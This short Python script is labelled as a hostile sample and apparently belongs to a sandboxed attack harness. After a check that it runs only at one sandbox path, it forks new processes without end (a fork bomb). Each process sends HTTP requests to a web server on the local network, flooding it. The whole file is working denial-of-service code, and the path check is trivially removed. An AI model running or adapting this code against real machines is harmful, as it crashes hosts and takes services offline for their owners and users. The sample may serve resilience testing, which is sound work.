# /// hostile
# attack = "Every process forks for ever while the web server of its own network works for each."
# network = "demo"
# reason = "tasks"
# ///
if __file__ != "/box/main.py": raise SystemExit("runs in the sandbox only")
import os
import socket

while True:
    os.fork()
    one = socket.create_connection(("127.0.0.11", 80))
    one.sendall(b"GET / HTTP/1.1\r\nHost: news.example\r\n\r\n")
